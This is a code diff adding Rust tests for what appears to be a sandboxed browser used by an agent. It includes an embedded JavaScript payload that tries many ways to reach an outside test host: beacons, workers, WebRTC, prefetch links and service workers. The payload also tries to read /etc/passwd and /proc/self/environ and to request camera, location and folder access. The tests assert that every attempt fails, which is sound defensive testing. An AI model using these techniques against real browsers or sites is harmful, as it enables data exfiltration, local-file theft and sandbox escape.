@@ -160,3 +160,104 @@ async fn a_crash_is_a_clear_error_and_closes_the_session() {
     let again = world.read("/", "<button>One</button>").await;
     assert!(reference(&again, "One") != "e1", "a ref was used again: {again}");
 }
+
+fn folder_bytes(folder: &std::path::Path) -> u64 {
+    let entries = std::fs::read_dir(folder).into_iter().flatten().flatten();
+    let bytes = entries.map(|entry| match entry.metadata() {
+        Ok(about) if about.is_dir() => folder_bytes(&entry.path()),
+        Ok(about) => about.len(),
+        Err(_) => 0,
+    });
+    bytes.sum()
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn what_pages_store_fills_no_disk() {
+    const STORED: u64 = 24_000_000;
+    let world = World::open().await;
+    let script = format!(
+        "(async () => {{ const bytes = new Uint8Array({STORED});
+         for (let i = 0; i < bytes.length; i += 65536) crypto.getRandomValues(bytes.subarray(i, i + 65536));
+         await (await caches.open('a')).put('/stored', new Response(bytes));
+         await new Promise((done, failed) => {{ const open = indexedDB.open('b');
+           open.onupgradeneeded = () => open.result.createObjectStore('c'); open.onerror = failed;
+           open.onsuccess = () => {{ const put = open.result.transaction('c', 'readwrite');
+             put.objectStore('c').put(bytes, 1); put.oncomplete = done; put.onerror = failed; }}; }});
+         document.body.append('stored ' + (await (await caches.match('/stored')).arrayBuffer()).byteLength); }})()"
+    );
+    let body = format!("<p>Here</p><script>{script}</script>");
+    world.read("/", &body).await;
+    world
+        .says("browser.wait", json!({ "text": format!("stored {STORED}") }))
+        .await;
+    assert!(folder_bytes(&world.work.join("browsers")) < STORED / 2);
+}
+
+/// Ways to a host, past what a page is asked about, and to what is not the web's.
+const WAYS: &str = r#"
+const ways = [], tried = (name, work) => ways.push((async () => { try { await work(); } catch (e) { return; } })());
+const link = (rel, href) => { const one = document.createElement('link'); one.rel = rel; one.href = href; document.head.append(one); };
+for (const rel of ['preconnect', 'dns-prefetch', 'prefetch', 'preload', 'prerender', 'modulepreload', 'manifest', 'icon'])
+  link(rel, THERE + '/' + rel);
+const rules = document.createElement('script'); rules.type = 'speculationrules';
+rules.textContent = JSON.stringify({ prefetch: [{ source: 'list', urls: [THERE + '/speculated'] }] }); document.head.append(rules);
+tried('beacon', () => navigator.sendBeacon(THERE + '/beacon', 'x'));
+tried('keepalive', () => fetch(THERE + '/keepalive', { keepalive: true, mode: 'no-cors' }));
+tried('events', () => new EventSource(THERE + '/events'));
+tried('transport', () => new WebTransport(THERE.replace('http:', 'https:') + '/transport').ready);
+tried('worker', () => new Worker(URL.createObjectURL(new Blob([`fetch('${THERE}/worker', { mode: 'no-cors' });
+  try { importScripts('${THERE}/imported') } catch (e) {}; new WebSocket('${THERE.replace('http', 'ws')}/worker_socket')`]))));
+tried('service', () => navigator.serviceWorker.register('/service.js'));
+tried('calls', async () => {
+  const place = THERE.replace('http://', '');
+  const call = new RTCPeerConnection({ iceServers: [{ urls: 'stun:' + place },
+    { urls: ['turn:' + place + '?transport=tcp', 'turn:' + place + '?transport=udp'], username: 'a', credential: 'b' }] });
+  call.createDataChannel('a'); await call.setLocalDescription(await call.createOffer());
+});
+for (const place of ['file:///etc/passwd', 'view-source:file:///etc/passwd', 'chrome://version', 'devtools://devtools/bundled/inspector.html',
+  'filesystem:' + location.origin + '/temporary/a'])
+  tried(place, () => { window.open(place); const frame = document.createElement('iframe'); frame.src = place; document.body.append(frame); });
+for (const place of ['/etc/passwd', '/proc/self/environ'])
+  tried(place, async () => document.body.append(await (await fetch('file://' + place)).text()));
+tried('devices', () => navigator.usb.requestDevice({ filters: [] }));
+tried('place', () => new Promise((done, failed) => navigator.geolocation.getCurrentPosition(p => {
+  document.body.append('located'); done() }, failed)));
+tried('camera', async () => { await navigator.mediaDevices.getUserMedia({ video: true, audio: true }); document.body.append('filmed'); });
+tried('folder', async () => { await showDirectoryPicker(); document.body.append('picked'); });
+Promise.race([Promise.all(ways), new Promise(done => setTimeout(done, 3000))]).then(() => document.body.append('all tried'));
+"#;
+
+#[tokio::test(flavor = "multi_thread")]
+async fn no_way_leads_around_the_broker_or_to_what_is_not_the_webs() {
+    let other = Site::open().await;
+    let datagrams = std::net::UdpSocket::bind(("127.0.0.1", other.port())).unwrap();
+    datagrams.set_nonblocking(true).unwrap();
+    let world = World::open().await;
+    let there = &other.origin;
+    let service = format!("fetch('{there}/service', {{ mode: 'no-cors' }}); self.skipWaiting();");
+    world.site.put(
+        "/service.js",
+        format!(
+            "HTTP/1.1 200 OK\r\ncontent-type: text/javascript\r\ncontent-length: {}\r\nconnection: close\r\n\r\n{service}",
+            service.len()
+        ),
+    );
+    let script = format!("const THERE = '{there}';{WAYS}");
+    world.read("/", &format!("<p>Here</p><script>{script}</script>")).await;
+    // What it opened may lie in front.
+    world.says("browser.tabs", json!({ "act": "front", "tab": 1 })).await;
+    world.says("browser.wait", json!({ "text": "all tried" })).await;
+    // What is fetched ahead or by workers comes late.
+    tokio::time::sleep(Duration::from_millis(300)).await;
+    let text = world.snapshot().await;
+    for gained in ["root:", "located", "filmed", "picked", "PATH="] {
+        assert!(!text.contains(gained), "{text}");
+    }
+    let tabs = world.says("browser.tabs", json!({ "act": "list" })).await;
+    let tabs = tabs.to_string();
+    for foreign in ["file:", "chrome:", "devtools:"] {
+        assert!(!tabs.contains(foreign), "{tabs}");
+    }
+    assert!(other.asked().is_empty(), "{:?}", other.asked());
+    assert!(datagrams.recv(&mut [0; 8]).is_err());
+}
